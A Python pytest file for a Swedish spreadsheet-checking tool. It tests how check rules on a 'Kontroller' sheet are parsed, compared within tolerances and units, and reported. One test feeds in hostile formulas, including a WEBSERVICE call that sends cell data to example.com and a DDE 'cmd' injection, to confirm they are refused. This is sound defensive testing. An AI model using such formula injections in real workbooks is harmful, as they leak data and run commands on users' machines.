"""The controller's own checks: what stands on a row of Kontroller, and what comes of it."""

from __future__ import annotations

from decimal import Decimal
from typing import TYPE_CHECKING

import pytest

from runxl import commands, language
from runxl.grid import Block, CellError, Content, Sheet, Snapshot
from runxl.layout import CHECKS, PERSPECTIVES, RESULT
from tests.reports import PRINTED
from tests.workbooks import amount, at, filled, found, numbers, places, workbook

if TYPE_CHECKING:
    from runxl.layout import TableLayout
    from tests.workbooks import Row


def report(left: object, right: object, **columns: object) -> Snapshot:
    """Return the printed report with one check."""
    check = {"id": "K1", "description": "Texten", "left": left, "right": right, **columns}
    return workbook({**PRINTED, CHECKS: [check]}, totaler="publicerade")


def outcome_of(left: object, right: object, **columns: object) -> str:
    """Return what the row says in the end."""
    return str(amount(filled(report(left, right, **columns), commands.check), CHECKS, "K1", "outcome"))


HOLDS, FAILS, UNKNOWN = "✓ Stämmer", "✗ Avviker", "– Okänt"


def test_the_reports_own_slip_is_found() -> None:
    outcome = commands.check(report("tblResultat[resultat;Utfall]", 4, tolerance=0, unit="mnkr"))
    (finding,) = found(outcome, "own-rule-broken")
    assert numbers(finding) == [2, 4, -2, 0]
    assert language.sentence_of_finding(finding).startswith(
        "Texten: vänster ger 2\u00a0mnkr, höger 4\u00a0mnkr. Skillnaden 2 är större än toleransen 0."
    )


def test_it_is_said_which_numbers_on_the_row_the_text_fits() -> None:
    (finding,) = found(commands.check(report("tblResultat[resultat;Utfall]", 4, unit="mnkr")), "own-rule-broken")
    assert language.sentence_of_finding(finding).endswith(
        "4\u00a0mnkr står på samma rad i Resultat!G15 (Avvikelse), Resultat!I15 (Årsprognos), "
        "Resultat!K15 (Avvikelse årsprognos). Menar texten något av de talen?"
    )


def test_the_slip_counts_under_rules_and_not_under_relations() -> None:
    summary = commands.check(report("tblResultat[resultat;Utfall]", 4)).summary
    assert summary["rules"] == {"holding": 0, "failing": 1, "unknown": 0}
    assert summary["relations"] == {"exact": 52, "explained": 1, "impossible": 0}


@pytest.mark.parametrize(
    ("left", "right"),
    [
        ("Resultat!E15", 2),
        ("tblResultat[resultat;Årsprognos]", 4),
        ("tblResultat[resultat;Utfall]-tblResultat[resultat;Budget]", "tblResultat[resultat;Avvikelse]"),
        ("SUM(Verksamheter!G5:G11)", 4133),
        ("AVRUNDA(tblVerksamhet[summa;Avvikelse]/1000;0)", 4),
        ("4", "2+2"),
        ("1 234,5", 1234.5),
        ("ABS(Resultat!G9)", 2),
        ("resultat!e15", 2),
    ],
)
def test_cells_entries_and_expressions_can_be_compared(left: object, right: object) -> None:
    assert outcome_of(left, right) == HOLDS


def test_a_defined_name_can_be_compared() -> None:
    plain = report("överskott", 2)
    named = Snapshot(plain.sheets, plain.tables, {**plain.names, "Överskott": Block("Resultat", 15, 5, 15, 5)})
    assert amount(filled(named, commands.check), CHECKS, "K1", "outcome") == HOLDS


def test_a_formula_typed_as_the_side_is_read_and_not_only_its_value() -> None:
    plain = filled(report(Content(Decimal(99), "Resultat!E15*2"), 4), commands.check)
    assert amount(plain, CHECKS, "K1", "left_value") == 4


@pytest.mark.parametrize(("tolerance", "says"), [(None, FAILS), (0.5, HOLDS), (0.05, FAILS), (0.1, HOLDS)])
def test_a_difference_within_the_tolerance_is_none(tolerance: float | None, says: str) -> None:
    assert outcome_of("tblAnslag[summa;Utbetalt]", 54, tolerance=tolerance, unit="mnkr") == says


def test_amounts_are_turned_into_the_checks_unit() -> None:
    assert outcome_of("tblVerksamhet[summa;Avvikelse]", 4.134, unit="mnkr") == HOLDS
    assert outcome_of("tblResultat[resultat;Avvikelse]", 4000, unit="tkr") == HOLDS


def test_amounts_are_as_they_stand_where_the_check_has_no_unit() -> None:
    assert outcome_of("tblVerksamhet[summa;Avvikelse]", 4134) == HOLDS


def test_a_count_is_never_turned_into_another_unit() -> None:
    book = filled(
        workbook(
            {
                PERSPECTIVES: [{"id": "s", "label": "Samhälle"}],
                CHECKS: [{"id": "K1", "left": "tblPerspektiv[s;Mål]", "right": 0, "unit": "mnkr"}],
            }
        ),
        commands.run,
    )
    assert amount(book, CHECKS, "K1", "outcome") == HOLDS


def test_a_tenth_and_two_tenths_are_three_tenths() -> None:
    assert outcome_of("0,1+0,2", 0.3) == HOLDS


@pytest.mark.parametrize("left", [0.30000000000000004, 9876543.210000003])
def test_what_doubles_make_of_decimals_is_no_difference(left: float) -> None:
    assert outcome_of(left, round(left, 2)) == HOLDS


@pytest.mark.parametrize("unknown", ["Verksamheter!E12", "Resultat!B5", "9" * 400])
def test_a_side_without_a_number_is_unknown(unknown: str) -> None:
    outcome = commands.check(report(unknown, 4))
    assert places(outcome, "own-rule-unknown") == ["Kontroller!C5"]
    assert outcome.summary["rules"] == {"holding": 0, "failing": 0, "unknown": 1}


@pytest.mark.parametrize("side", ["1/0", "Resultat!E15/Resultat!E14", "0/0", "ABS(1/(2-2))"])
def test_a_side_that_divides_by_zero_says_so(side: str) -> None:
    (finding,) = found(commands.check(report(side, 4)), "own-rule-divides-by-zero")
    assert language.sentence_of_finding(finding).endswith(f"{side} delar med noll.")


def test_an_error_within_a_sum_is_unknown() -> None:
    rows: dict[TableLayout, list[Row]] = {
        RESULT: [{"id": "a", "type": "intäkt", "actual": CellError("#REF!")}, {"id": "b", "actual": 4}],
        CHECKS: [{"id": "K1", "left": "SUM(Resultat!E5:E6)", "right": 4}],
    }
    assert amount(filled(workbook(rows), commands.check), CHECKS, "K1", "outcome") == UNKNOWN


def test_an_unknown_rule_says_so_in_its_row() -> None:
    assert outcome_of("Verksamheter!E12", 4) == UNKNOWN


@pytest.mark.parametrize(
    "left",
    ["överskottet är 4", "tblResultat[resutat;Utfall]", "Resultt!E15", "__import__('os')", "(" * 10_000, "1+" * 20_000],
)
def test_what_cannot_be_read_names_its_cell(left: str) -> None:
    assert places(commands.check(report(left, 4)), "own-rule-unreadable") == ["Kontroller!C5"]


def test_a_side_that_is_empty_is_asked_for() -> None:
    assert places(commands.check(report("", 4)), "own-rule-empty") == ["Kontroller!C5"]


@pytest.mark.parametrize("hostile", ['WEBSERVICE("http://example.com/"&E15)', "Resultat!E15+cmd|'/C calc'!A0", "NOW()"])
def test_a_hostile_formula_is_neither_followed_nor_copied(hostile: str) -> None:
    book = filled(report(Content(Decimal(4), hostile), 4), commands.check)
    assert at(book, CHECKS, "K1", "left_value") == Content()
    assert amount(book, CHECKS, "K1", "outcome") == UNKNOWN


def test_the_message_shows_a_formula_as_it_is_typed() -> None:
    (finding,) = found(commands.check(report(Content(Decimal(4), "NOW()"), 4)), "own-rule-unreadable")
    assert "'=NOW()'" in language.sentence_of_finding(finding)


def test_both_sides_and_the_difference_are_formulas_too() -> None:
    book = filled(report("Resultat!E15", 4), commands.check)
    assert at(book, CHECKS, "K1", "left_value") == Content(
        Decimal(2), 'IFERROR(IF(COUNT(Resultat!E15)=1,Resultat!E15,""),"")'
    )
    assert amount(book, CHECKS, "K1", "difference") == -2


def test_a_rule_too_long_for_a_formula_still_has_its_value() -> None:
    sheet = "Ett blad med ett rätt långt namn"[:31]
    short = [f"{letter}{digit}" for letter in "åäöéèêëüûùúñçàâáîïíìôóòõ" for digit in range(10)]
    plain = report("+".join(short), 480)
    amounts = Sheet(sheet, {(row, 1): Content(Decimal(2)) for row in range(1, 241)})
    names = {name: Block(sheet, row, 1, row, 1) for row, name in enumerate(short, start=1)}
    book = filled(Snapshot({**plain.sheets, sheet: amounts}, plain.tables, names), commands.check)
    assert at(book, CHECKS, "K1", "left_value") == Content(Decimal(480))
    assert amount(book, CHECKS, "K1", "outcome") == HOLDS


def test_a_huge_amount_is_no_fault() -> None:
    assert outcome_of(10.0**300, 4) == FAILS


def test_a_sum_over_amounts_and_counts_is_refused_as_no_formula_could_add_it() -> None:
    book = workbook(
        {
            RESULT: [{"id": "a", "type": "intäkt", "actual": 1, "budget": 2}],
            CHECKS: [{"id": "K1", "left": "SUMMA(Resultat!D5:F5)", "right": 3, "unit": "tkr"}],
        }
    )
    assert places(commands.check(book), "own-rule-mixes-units") == ["Kontroller!C5"]


@pytest.mark.parametrize(
    ("left", "right", "unit"),
    [
        ("tblResultat[resultat;Utfall]", 4, "tkr"),
        ("tblResultat[resultat;Utfall]", 0, "mnkr"),
        ("tblResultat[resultat;Utfall]", "2+2", "mnkr"),
        ("SUM(Resultat!E14:E15)", 4, "mnkr"),
        ("tblResultat[resultat;Utfall]", 7, "mnkr"),
    ],
)
def test_nothing_is_said_where_the_text_fits_nothing_or_states_no_number(left: str, right: object, unit: str) -> None:
    (finding,) = found(commands.check(report(left, right, unit=unit)), "own-rule-broken")
    assert finding.advice == ()
